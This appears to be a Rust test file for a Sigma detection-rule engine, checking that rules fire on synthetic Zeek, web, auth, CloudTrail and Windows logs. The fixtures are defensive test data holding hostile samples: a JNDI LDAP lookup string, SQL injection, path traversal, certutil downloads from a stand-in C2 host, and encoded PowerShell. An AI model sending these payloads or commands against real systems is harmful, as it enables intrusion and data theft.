//! Rules of every kind over logs of every kind, all together, with known answers; and over real logs.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};

use accord_formats::logs::LogFormat;
use accord_logstore::LogStore;
use accord_sigma::{RuleFile, RuleState, SigmaResult, SigmaRules};
use serde_json::Value;

use crate::support::{IMPORTED_MS, all, source};

const FILES: [(&str, &str); 5] = [
    ("zeek.yml", include_str!("rules/zeek.yml")),
    ("web.yml", include_str!("rules/web.yml")),
    ("auth.yml", include_str!("rules/auth.yml")),
    ("cloud.yml", include_str!("rules/cloud.yml")),
    ("windows.yml", include_str!("rules/windows.yml")),
];

fn rules() -> SigmaRules {
    let files = FILES.map(|(name, text)| RuleFile {
        name,
        bytes: text.as_bytes(),
    });
    let rules = SigmaRules::parse(&files);
    assert_eq!(rules.diagnostics(), []);
    assert_eq!(rules.rules().len(), 37);
    rules
}

fn zeek(path: &str, second: u32, fields: &str) -> String {
    format!(
        "{{\"_path\":\"{path}\",\"ts\":\"2026-02-03T10:00:{second:02}Z\",\"id.orig_h\":\"10.0.0.5\",{fields}}}\n"
    )
}

fn zeek_json() -> String {
    let mut log = String::new();
    let dns = |second, query: &str, kind: &str, rcode: &str| {
        zeek(
            "dns",
            second,
            &format!(
                "\"query\":\"{query}\",\"qtype_name\":\"{kind}\",\"rcode_name\":\"{rcode}\",\"rejected\":false"
            ),
        )
    };
    log.push_str(&dns(
        0,
        &format!("{}.t.example", "a1".repeat(20)),
        "TXT",
        "NOERROR",
    ));
    log.push_str(&dns(0, &format!("{}.t.example", "a1".repeat(20)), "A", "NOERROR"));
    log.push_str(&dns(0, "c2.Dyn.Example", "A", "NOERROR"));
    log.push_str(&dns(0, "a.ours.dyn.example", "A", "NOERROR"));
    for name in 0..5 {
        log.push_str(&dns(10 * name, &format!("q{name}.example"), "A", "NXDOMAIN"));
    }
    // Line 10.
    log.push_str(&zeek(
        "http",
        1,
        r#""method":"GET","host":"h.example","uri":"/a/b.JPG","resp_mime_types":["text/plain","application/x-dosexec"],"user_agent":"Mozilla/5.0","request_body_len":0"#,
    ));
    log.push_str(&zeek(
        "http",
        1,
        r#""method":"GET","host":"h.example","uri":"/a","user_agent":"curl/8.0","request_body_len":0"#,
    ));
    log.push_str(&zeek(
        "http",
        1,
        r#""method":"GET","host":"deb.mirror.example","uri":"/a","user_agent":"curl/8.0","request_body_len":0"#,
    ));
    for (host, port, bytes) in [
        ("203.0.113.7", 4444, 1_000_000),
        ("203.0.113.7", 4444, 999_999),
        ("10.9.9.9", 31337, 5_000_000),
        ("203.0.113.7", 443, 5_000_000),
    ] {
        log.push_str(&zeek(
            "conn",
            1,
            &format!(
                "\"id.resp_h\":\"{host}\",\"id.resp_p\":{port},\"orig_bytes\":{bytes},\"conn_state\":\"SF\""
            ),
        ));
    }
    // Line 17.
    log.push_str(&zeek(
        "ssl",
        1,
        r#""validation_status":"self signed certificate","established":true"#,
    ));
    log.push_str(&zeek(
        "ssl",
        1,
        r#""validation_status":"self signed certificate","server_name":"a.example","established":true"#,
    ));
    log.push_str(&zeek(
        "smb_files",
        1,
        r#""path":"\\\\SRV\\ADMIN$","name":"x\\run.EXE","action":"SMB::FILE_OPEN""#,
    ));
    log.push_str("{\"_path\":\"dns\",broken\n");
    log
}

fn zeek_tsv() -> String {
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n\
     #fields\tts\tid.orig_h\tquery\tqtype_name\trcode_name\trejected\n\
     #types\ttime\taddr\tstring\tstring\tstring\tbool\n\
     1770112800.0\t10.0.0.6\tc2.dyn.example\tA\tNOERROR\tF\n\
     1770112800.0\t10.0.0.6\tx.example\tA\tNXDOMAIN\tT\n"
        .to_owned()
}

fn web() -> String {
    let line = |second: u32, request: &str, status: u32, agent: &str| {
        format!(
            "203.0.113.9 - - [03/Feb/2026:10:00:{second:02} +0000] \"{request}\" {status} 12 \"-\" \"{agent}\"\n"
        )
    };
    let mut log = String::new();
    log.push_str(&line(0, "GET /cgi/../../etc/passwd HTTP/1.1", 400, "x"));
    log.push_str(&line(
        0,
        "GET /a?id=1+UNION+ALL+SELECT+2 HTTP/1.1",
        200,
        "sqlmap/1.7",
    ));
    log.push_str(&line(0, "POST /uploads/a.PHP?x=1 HTTP/1.1", 200, "x"));
    log.push_str(&line(0, "POST /uploads/a.php HTTP/1.1", 403, "x"));
    log.push_str(&line(0, "GET / HTTP/1.1", 200, "${jndi:ldap://c2.example/a}"));
    for second in 0..5 {
        log.push_str(&line(second, "GET /nothing HTTP/1.1", 404, "x"));
    }
    log.push_str("cut short ${jndi:ldap:\n");
    log
}

fn iis() -> &'static str {
    "#Software: Microsoft Internet Information Services 10.0\n\
     #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\n\
     2026-02-03 10:00:00 10.0.0.1 GET /a.aspx q=..%2f..%2fx 443 - 203.0.113.9 Nikto/2.1+(x) 200\n\
     2026-02-03 10:00:00 10.0.0.1 GET /a.aspx - 443 - 203.0.113.9 Mozilla/5.0 200\n"
}

fn squid() -> &'static str {
    "1770112800.123 200 10.0.0.5 TCP_MISS/200 1500 GET http://evil.example/a.exe - HIER_DIRECT/203.0.113.7 text/html\n"
}

fn auth() -> String {
    let mut log = String::new();
    for second in 0..5 {
        log.push_str(&format!(
            "Feb  3 11:00:{second:02} gate sshd[7]: Failed password for root from 203.0.113.9 port 4711 ssh2\n"
        ));
    }
    log.push_str(
        "Feb  3 11:20:00 gate sshd[8]: Accepted password for root from 203.0.113.9 port 4712 ssh2\n",
    );
    log.push_str("Feb  3 11:20:00 gate sshd[8]: Accepted password for jo from 203.0.113.10 port 4712 ssh2\n");
    log.push_str("Feb  3 11:21:00 gate sudo:   jo : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash\n");
    log.push_str("Feb  3 11:21:00 gate sudo:   jo : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/ls\n");
    log.push_str("Feb  3 11:22:00 gate useradd[9]: new user: name=x, UID=0, GID=0, home=/x, shell=/bin/sh\n");
    log.push_str(
        "Feb  3 11:22:00 gate useradd[9]: new user: name=y, UID=1001, GID=1001, home=/y, shell=/bin/sh\n",
    );
    log.push_str("Feb  3 11:22:00 gate app[9]: new user: name=z, UID=0,\n");
    log
}

fn cloud() -> String {
    let events = [
        r#"{"eventName":"ConsoleLogin","eventTime":"2026-02-03T10:00:00Z","eventSource":"signin.amazonaws.com","userIdentity":{"type":"Root"},"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"}}"#,
        r#"{"eventName":"StopLogging","eventSource":"cloudtrail.amazonaws.com","userIdentity":{"type":"IAMUser"}}"#,
        r#"{"eventName":"StopLogging","eventSource":"cloudtrail.amazonaws.com","errorCode":"AccessDenied"}"#,
        r#"{"eventName":"CreateAccessKey","userIdentity":{"userName":"jo"},"requestParameters":{"userName":"root"}}"#,
        r#"{"eventName":"CreateAccessKey","userIdentity":{"userName":"jo"},"requestParameters":{"userName":"jo"}}"#,
        r#"{"eventName":"AuthorizeSecurityGroupIngress","requestParameters":{"ipPermissions":{"items":[{"fromPort":22,"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}}}"#,
        r#"{"eventName":"AuthorizeSecurityGroupIngress","requestParameters":{"ipPermissions":{"items":[{"fromPort":22,"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"}]}}]}}}"#,
    ];
    format!("{{\"Records\":[{}]}}", events.join(","))
}

/// An event in the forms that programs write.
fn event(form: usize, channel: &str, provider: &str, number: u32, fields: &[(&str, &str)]) -> String {
    let time = "2026-02-03T10:00:00.000Z";
    let text = |value: &str| Value::from(value).to_string();
    let members: Vec<String> = fields
        .iter()
        .map(|(name, value)| format!("{}:{}", text(name), text(value)))
        .collect();
    let members = members.join(",");
    match form {
        0 => format!(
            "{{\"Event\":{{\"System\":{{\"Provider\":{{\"#attributes\":{{\"Name\":{}}}}},\"EventID\":{number},\"TimeCreated\":{{\"#attributes\":{{\"SystemTime\":\"{time}\"}}}},\"Channel\":{},\"Computer\":\"pc\"}},\"EventData\":{{{members}}}}}}}\n",
            text(provider),
            text(channel)
        ),
        1 => format!(
            "{{\"@timestamp\":\"{time}\",\"winlog\":{{\"channel\":{},\"provider_name\":{},\"event_id\":\"{number}\",\"computer_name\":\"pc\",\"event_data\":{{{members}}}}}}}\n",
            text(channel),
            text(provider)
        ),
        2 => {
            let data: Vec<String> = fields
                .iter()
                .map(|(name, value)| format!("{{\"@Name\":{},\"#text\":{}}}", text(name), text(value)))
                .collect();
            let payload = format!("{{\"EventData\":{{\"Data\":[{}]}}}}", data.join(","));
            format!(
                "{{\"Payload\":{},\"Channel\":{},\"Provider\":{},\"EventId\":{number},\"TimeCreated\":\"{time}\",\"Computer\":\"pc\"}}\n",
                text(&payload),
                text(channel),
                text(provider)
            )
        }
        _ => format!(
            "{{\"EventTime\":\"{time}\",\"Channel\":{},\"SourceName\":{},\"EventID\":{number},\"Hostname\":\"pc\",{members}}}\n",
            text(channel),
            text(provider)
        ),
    }
}

fn windows(form: usize) -> String {
    let sysmon = |number, fields: &[(&str, &str)]| {
        event(
            form,
            "Microsoft-Windows-Sysmon/Operational",
            "Microsoft-Windows-Sysmon",
            number,
            fields,
        )
    };
    [
        sysmon(
            1,
            &[
                (
                    "Image",
                    r"C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell.exe",
                ),
                ("CommandLine", "powershell /ENC aGk="),
            ],
        ),
        sysmon(
            1,
            &[
                ("Image", r"C:\x\powershell.exe"),
                ("CommandLine", "powershell -encoding x"),
            ],
        ),
        sysmon(
            1,
            &[
                ("Image", r"C:\x\renamed.exe"),
                ("OriginalFileName", "CertUtil.exe"),
                ("CommandLine", "renamed -URLCache -f http://c2.example/a"),
            ],
        ),
        sysmon(
            1,
            &[
                ("Image", r"C:\Users\jo\AppData\Local\Temp\a.exe"),
                ("ParentImage", r"C:\Office\WINWORD.EXE"),
                ("CommandLine", "a"),
            ],
        ),
        sysmon(
            13,
            &[
                (
                    "TargetObject",
                    r"HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\x",
                ),
                ("Details", r"C:\Users\jo\AppData\Roaming\x.exe"),
                ("EventType", "SetValue"),
            ],
        ),
        sysmon(
            22,
            &[("QueryName", "paste.example"), ("Image", r"C:\Windows\x.exe")],
        ),
        sysmon(
            22,
            &[
                ("QueryName", "paste.example"),
                ("Image", r"C:\Firefox\firefox.exe"),
            ],
        ),
        sysmon(
            3,
            &[
                ("Image", r"C:\Windows\System32\rundll32.exe"),
                ("Initiated", "true"),
                ("DestinationIp", "203.0.113.7"),
            ],
        ),
        sysmon(
            10,
            &[
                ("SourceImage", r"C:\Users\jo\d.exe"),
                ("TargetImage", r"C:\Windows\system32\lsass.exe"),
                ("GrantedAccess", "0x1FFFFF"),
            ],
        ),
        event(
            form,
            "System",
            "Service Control Manager",
            7045,
            &[("ServiceName", "x"), ("ImagePath", r"C:\Users\jo\x.exe")],
        ),
        event(
            form,
            "Security",
            "Microsoft-Windows-Eventlog",
            1102,
            &[("a", "b")],
        ),
        event(
            form,
            "Security",
            "Microsoft-Windows-Security-Auditing",
            4688,
            &[
                ("NewProcessName", r"C:\Windows\System32\certutil.exe"),
                ("CommandLine", "certutil -urlcache http://c2.example/b"),
                ("ParentProcessName", r"C:\Windows\explorer.exe"),
            ],
        ),
        event(
            form,
            "Microsoft-Windows-PowerShell/Operational",
            "Microsoft-Windows-PowerShell",
            4104,
            &[(
                "ScriptBlockText",
                "$w = new-object net.webclient;\n$w.downloadstring('x')",
            )],
        ),
    ]
    .concat()
}

fn shown(rules: &SigmaRules, result: &SigmaResult) -> BTreeMap<String, Vec<String>> {
    let mut shown: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for line in &result.lines {
        for hit in &line.hits {
            let record = if hit.record == 0 {
                String::new()
            } else {
                format!(".{}", hit.record)
            };
            shown
                .entry(rules.rules()[hit.rule].title.clone())
                .or_default()
                .push(format!("{}:{}{record}", line.source, line.line));
        }
    }
    for hit in &result.correlations {
        let group: Vec<&str> = hit.group.iter().map(|(_, value)| value.as_str()).collect();
        shown
            .entry(rules.rules()[hit.rule].title.clone())
            .or_default()
            .push(format!("{} x{}", group.join(","), hit.count));
    }
    shown
}

#[test]
fn every_rule_hits_what_it_is_about() {
    let dir = tempfile::tempdir().unwrap();
    let store = LogStore::open(dir.path()).unwrap();
    let logs: [(&str, Option<LogFormat>, String); 11] = [
        ("zeek", None, zeek_json()),
        ("tsv", None, zeek_tsv()),
        ("web", Some(LogFormat::AccessLog), web()),
        ("iis", None, iis().to_owned()),
        ("squid", None, squid().to_owned()),
        ("auth", Some(LogFormat::Syslog), auth()),
        ("aws", Some(LogFormat::CloudTrail), cloud()),
        ("win0", None, windows(0)),
        ("win1", None, windows(1)),
        ("win2", None, windows(2)),
        ("win3", None, windows(3)),
    ];
    for (name, format, log) in &logs {
        store.add_source(source(name, *format)).unwrap();
        store
            .import(name, "x", &mut log.as_bytes(), IMPORTED_MS, "jo")
            .unwrap();
    }
    let rules = rules();
    let result = all(&store, &rules);
    let in_each = |line: u32| -> Vec<String> { (0..4).map(|form| format!("win{form}:{line}")).collect() };
    let texts = |list: &[&str]| -> Vec<String> { list.iter().map(|text| (*text).to_owned()).collect() };
    let certutil = [in_each(3), in_each(12)].concat();
    let expected: BTreeMap<String, Vec<String>> = [
        ("Long name asked for as TXT", texts(&["zeek:1"])),
        ("Name of a dynamic DNS provider", texts(&["tsv:8", "zeek:3"])),
        ("Many names that are not there", texts(&["10.0.0.5 x5"])),
        ("Program under the name of a picture", texts(&["zeek:10"])),
        ("Agent of a script", texts(&["zeek:11"])),
        ("Much sent to a port of backdoors", texts(&["zeek:13"])),
        ("Certificate that signs itself", texts(&["zeek:17"])),
        (
            "Program written to a share of administrators",
            texts(&["zeek:19"]),
        ),
        ("Way up out of the folder", texts(&["iis:3", "web:1"])),
        ("Query of a database in a query", texts(&["web:2"])),
        ("Answer of a program in the folder of uploads", texts(&["web:3"])),
        (
            "Look-up of a name asked for in a header",
            texts(&["web:5", "web:11"]),
        ),
        ("Agent of a scanner", texts(&["iis:3", "web:2"])),
        ("Many pages that are not there", texts(&["203.0.113.9 x5"])),
        ("Passwords tried", texts(&["203.0.113.9 x5"])),
        ("Passwords tried, and one that opened", texts(&["203.0.113.9 x2"])),
        ("Shell of root by sudo", texts(&["auth:8"])),
        ("Account made", texts(&["auth:10"])),
        ("Root signs in", texts(&["aws:1"])),
        ("Trail stopped", texts(&["aws:1.1"])),
        ("Key made for somebody else", texts(&["aws:1.3"])),
        ("Port opened to the world", texts(&["aws:1.5"])),
        ("Signed in without a second factor", texts(&["aws:1"])),
        ("Command in base64 given to PowerShell", in_each(1)),
        ("Download by certutil", certutil),
        (
            "Program out of the folder of what is passing, by an office",
            in_each(4),
        ),
        ("Started at every sign-in", in_each(5)),
        ("Name of a place for pastes asked for", in_each(6)),
        ("Connection of what runs libraries", in_each(8)),
        ("Memory of LSASS opened to read", in_each(9)),
        ("Service with a program out of a user's folder", in_each(10)),
        ("Log of security cleared", in_each(11)),
        ("Download in a script", in_each(13)),
    ]
    .into_iter()
    .map(|(title, hits)| (title.to_owned(), hits))
    .collect();
    let mut got = shown(&rules, &result);
    let mut expected = expected;
    for hits in got.values_mut().chain(expected.values_mut()) {
        hits.sort();
    }
    assert_eq!(got, expected);
    for (info, report) in rules.rules().iter().zip(&result.rules) {
        assert_eq!(report.state, RuleState::Evaluated, "{}", info.title);
        assert!(
            report.fields_never_seen.is_empty(),
            "{}: {:?}",
            info.title,
            report.fields_never_seen
        );
    }
    assert_eq!(result.sums.not_evaluated, 2);
    assert!(result.is_complete());
}

/// The folder with the real data; nothing where it is absent, which fails where `CI` is set.
fn real_data() -> Option<PathBuf> {
    let dir = std::env::var_os("ACCORD_TEST_DATA").map_or_else(
        || PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data")),
        PathBuf::from,
    );
    if dir.join("logs").is_dir() {
        return Some(dir);
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "the test data is absent: {} (set ACCORD_TEST_DATA)",
        dir.display()
    );
    println!(
        "SKIPPED: no test data at {} (set ACCORD_TEST_DATA)",
        dir.display()
    );
    None
}

fn gunzip(path: &Path) -> Vec<u8> {
    let mut bytes = Vec::new();
    flate2::read::MultiGzDecoder::new(std::fs::File::open(path).unwrap())
        .read_to_end(&mut bytes)
        .unwrap();
    bytes
}

/// Hits in real logs are the lines that another reading of them finds.
#[test]
fn real_logs_say_the_same_in_both_of_zeeks_forms() {
    let Some(data) = real_data() else { return };
    let json = gunzip(&data.join("logs/zeek-json/dns.json.gz"));
    let expected = |is: &dyn Fn(&Value) -> bool| -> u64 {
        json.split(|byte| *byte == b'\n')
            .filter_map(|line| serde_json::from_slice::<Value>(line).ok())
            .filter(|record| is(record))
            .count() as u64
    };
    let text = |record: &Value, name: &str| record[name].as_str().unwrap_or_default().to_lowercase();
    let dir = tempfile::tempdir().unwrap();
    let store = LogStore::open(dir.path()).unwrap();
    for (name, path) in [("json", "zeek-json/dns.json.gz"), ("tsv", "zeek-tsv/dns.log.gz")] {
        store.add_source(source(name, None)).unwrap();
        let bytes = gunzip(&data.join("logs").join(path));
        store
            .import(name, path, &mut bytes.as_slice(), IMPORTED_MS, "jo")
            .unwrap();
    }
    let own = "title: A\nlogsource:\n  product: zeek\n  service: dns\ndetection:\n  s:\n    qtype_name: [PTR, SRV]\n  f:\n    rejected: true\n  condition: s and not f\n---\ntitle: B\nlogsource:\n  category: dns\ndetection:\n  s:\n    query|endswith: .com\n    answer|cidr: 10.0.0.0/8\n  condition: s\n---\ntitle: C\nlogsource:\n  category: dns\ndetection:\n  s:\n    answer: null\n    record_type: A\n  condition: s\n";
    let rules = SigmaRules::parse(&[RuleFile {
        name: "x",
        bytes: own.as_bytes(),
    }]);
    assert_eq!(rules.diagnostics(), []);
    let result = all(&store, &rules);
    let a = expected(&|record| {
        matches!(record["qtype_name"].as_str(), Some("PTR" | "SRV"))
            && record["rejected"] != Value::Bool(true)
    });
    let b = expected(&|record| {
        text(record, "query").ends_with(".com")
            && record["answers"].as_array().is_some_and(|answers| {
                answers.iter().any(|answer| {
                    answer.as_str().is_some_and(|answer| {
                        answer.starts_with("10.") && answer.parse::<std::net::Ipv4Addr>().is_ok()
                    })
                })
            })
    });
    let c = expected(&|record| text(record, "qtype_name") == "a" && record.get("answers").is_none());
    assert!(a > 0 && c > 0, "{a} {b} {c}");
    let hits = |rule: usize, source: &str| -> u64 {
        result
            .counts
            .iter()
            .filter(|row| row.rule == rule && row.source == source)
            .map(|row| row.hits)
            .sum()
    };
    for (rule, expected) in [(0, a), (1, b), (2, c)] {
        assert_eq!(
            (hits(rule, "json"), hits(rule, "tsv")),
            (expected, expected),
            "rule {rule}"
        );
    }
    assert_eq!(result.sums.not_evaluated, 0);
}

/// All rules over all real logs: nothing is lost on the way, and twice is the same.
#[test]
fn real_logs_of_every_kind() {
    let Some(data) = real_data() else { return };
    let dir = tempfile::tempdir().unwrap();
    let store = LogStore::open(dir.path()).unwrap();
    store.add_source(source("all", None)).unwrap();
    let mut lines = 0;
    for name in [
        "apache-combined.log.gz",
        "zeek-json/kerberos.json.gz",
        "zeek-tsv/ssl.log.gz",
        "cloudtrail/20230710T1205Z_86g9Vok9HiUCgSI7.json.gz",
        "suricata-eve-wrccdc-2018.json.gz",
    ] {
        let bytes = gunzip(&data.join("logs").join(name));
        lines += bytes.split_inclusive(|byte| *byte == b'\n').count() as u64;
        store
            .import("all", name, &mut bytes.as_slice(), IMPORTED_MS, "jo")
            .unwrap();
    }
    let rules = rules();
    let result = all(&store, &rules);
    let sums = result.sums;
    assert_eq!(
        sums.evaluated + sums.not_evaluated + sums.of_no_rule + sums.without_record,
        lines
    );
    let evaluated = result
        .rules
        .iter()
        .filter(|report| report.state == RuleState::Evaluated)
        .count();
    assert!(evaluated > 10, "{evaluated}");
    assert_eq!(all(&store, &rules), result);
}
